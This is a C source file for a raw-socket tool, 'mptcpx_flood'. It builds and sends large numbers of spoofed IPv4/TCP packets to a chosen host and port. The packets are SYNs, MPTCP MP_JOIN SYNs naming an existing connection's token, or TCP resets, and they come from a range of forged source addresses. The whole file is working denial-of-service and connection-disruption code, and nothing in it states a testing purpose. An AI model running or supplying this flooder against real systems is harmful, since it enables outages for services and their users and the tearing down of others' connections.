// SPDX-License-Identifier: GPL-2.0
/* mptcpx_flood: packets that nobody asked for, by a raw socket.
 *
 *   mptcpx_flood syn|join|reset FROM TO PORT TOKEN COUNT
 *
 * COUNT IPv4 packets to TO:PORT, from any port of FROM and of the 199 addresses
 * after it: the beginning of a connection; that of another subflow of the
 * connection TOKEN (hexadecimal; RFC 8684, section 3.2), without the key to end it;
 * or a reset. Exit code: 0, 1 if a packet could not be sent, 2 usage.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define OPTIONS 16	/* 12 of MP_JOIN, 4 of MSS */

enum { SYN, JOIN, RESET, KINDS };

static const char * const kinds[] = { "syn", "join", "reset" };

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t options[OPTIONS];
};

static uint32_t sum(const void *data, size_t len)
{
	const uint16_t *word = data;
	uint32_t s = 0;

	for (; len; len -= 2)
		s += *word++;
	return s;
}

static uint16_t fold(uint32_t s)
{
	s = (s >> 16) + (s & 0xffff);
	s += s >> 16;
	return ~s;
}

static void checksum(struct packet *p)
{
	size_t len = sizeof(p->tcp) + OPTIONS;

	p->tcp.check = 0;
	p->tcp.check = fold(sum(&p->ip.saddr, 8) + htons(IPPROTO_TCP) + htons(len) +
			    sum(&p->tcp, len));
}

static void options(uint8_t *o, int join, uint32_t token)
{
	uint32_t nonce = random();

	memset(o, 1, OPTIONS);		/* no operation */
	o[0] = 2;			/* maximum segment size */
	o[1] = 4;
	o[2] = 1400 >> 8;
	o[3] = 1400 & 0xff;
	if (!join)
		return;
	o[4] = 30;			/* MP_JOIN of a SYN */
	o[5] = 12;
	o[6] = 1 << 4;
	o[7] = 1 + random() % 200;	/* address id */
	memcpy(o + 8, &token, 4);
	memcpy(o + 12, &nonce, 4);
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct packet p = {};
	uint32_t from, token;
	int fd, kind, one = 1;
	long i, count;

	for (kind = 0; argc == 7 && kind < KINDS; kind++)
		if (!strcmp(argv[1], kinds[kind]))
			break;
	if (argc != 7 || kind == KINDS) {
		fputs("usage: mptcpx_flood syn|join|reset FROM TO PORT TOKEN COUNT\n", stderr);
		return 2;
	}
	from = ntohl(inet_addr(argv[2]));
	to.sin_addr.s_addr = inet_addr(argv[3]);
	token = htonl(strtoul(argv[5], NULL, 16));
	count = atol(argv[6]);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		perror("socket");
		return 1;
	}
	p.ip.version = 4;
	p.ip.ihl = 5;
	p.ip.ttl = 64;
	p.ip.protocol = IPPROTO_TCP;
	p.ip.tot_len = htons(sizeof(p));
	p.ip.daddr = to.sin_addr.s_addr;
	p.tcp.dest = htons(atoi(argv[4]));
	p.tcp.doff = (sizeof(p.tcp) + OPTIONS) / 4;
	p.tcp.window = htons(65535);
	p.tcp.syn = kind != RESET;
	p.tcp.rst = kind == RESET;
	for (i = 0; i < count; i++) {
		p.ip.saddr = htonl(from + i % 200);
		p.tcp.source = htons(1024 + random() % 60000);
		p.tcp.seq = random();
		options(p.options, kind == JOIN, token);
		checksum(&p);
		if (sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
			perror("sendto");
			return 1;
		}
	}
	return 0;
}
